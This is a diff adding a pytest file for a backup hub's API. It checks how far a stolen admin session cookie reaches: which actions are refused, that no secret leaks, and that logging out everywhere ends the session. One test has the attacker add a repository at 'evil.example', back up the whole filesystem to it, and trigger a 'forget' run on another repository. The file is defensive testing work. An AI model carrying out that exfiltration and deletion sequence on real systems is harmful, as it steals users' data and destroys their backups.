@@ -1,0 +1,72 @@
+"""A session in other hands does what its person does, and makes no further way in."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from datetime import UTC, datetime
+
+import pytest
+from fastapi.testclient import TestClient
+
+from api.whole import ANNA, CANARY, NOW, PASSWORD, Whole, whole_hub
+from highball.hub.access import CONFIRMED_FOR
+from highball.hub.db import sessions
+
+API = "/api/v1"
+
+
+@pytest.fixture(scope="module")
+def whole(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Whole]:
+    folder = tmp_path_factory.mktemp("whole")
+    with whole_hub(folder / "hub", folder / "highball.db") as hub:
+        hub.hub.documents.create("host", "laptop", {}, now=NOW, actor=ANNA)
+        yield hub
+
+
+@pytest.fixture
+def stolen(whole: Whole) -> TestClient:
+    """A browser with anna's cookie, who logged in a while ago; she is an admin."""
+    client = whole.client(None)
+    assert client.post(f"{API}/login", json={"name": "anna", "password": PASSWORD}).status_code == 200
+    with whole.hub.database.write() as connection:
+        connection.execute(sessions.update().values(created_at=datetime.now(UTC) - CONFIRMED_FOR))
+    return client
+
+
+@pytest.mark.parametrize(
+    ("method", "path"), [("POST", "/hosts/laptop/invitation"), ("GET", "/repositories/far/recovery-kit")]
+)
+def test_it_invites_no_agent_and_takes_no_recovery_kit(stolen: TestClient, method: str, path: str) -> None:
+    refused = stolen.request(method, API + path)
+    assert (refused.status_code, refused.json()["code"]) == (403, "confirmation_needed")
+
+
+def test_it_orders_and_declares_what_its_person_may(stolen: TestClient) -> None:
+    assert stolen.post(f"{API}/runs", json={"task": "backup", "job": "docs"}).status_code == 202
+    theirs = {"url": "rest:https://evil.example/", "password": {"env": "X"}}
+    assert stolen.post(f"{API}/repositories?key=theirs", json=theirs).status_code == 201
+    all_of_it = {"sources": ["/"], "repositories": ["theirs"], "host": "laptop"}
+    assert stolen.post(f"{API}/jobs?key=all", json=all_of_it).status_code == 201
+    removal = {"task": "forget", "repository": "nas", "job": "docs"}
+    assert stolen.post(f"{API}/runs", json=removal).status_code == 202
+
+
+def test_it_is_shown_no_sealed_value(stolen: TestClient) -> None:
+    asked = (
+        "/configuration",
+        "/repositories/far",
+        "/repositories/far/secrets",
+        "/repositories/far/history",
+        "/audit",
+    )
+    for path in asked:
+        answer = stolen.get(API + path)
+        assert answer.status_code == 200, path
+        assert CANARY not in answer.text
+
+
+def test_it_ends_where_its_person_logs_out_everywhere(stolen: TestClient, whole: Whole) -> None:
+    own = whole.client(None)
+    assert own.post(f"{API}/login", json={"name": "anna", "password": PASSWORD}).status_code == 200
+    assert own.delete(f"{API}/me/sessions").status_code == 204
+    assert stolen.get(f"{API}/me").status_code == 401
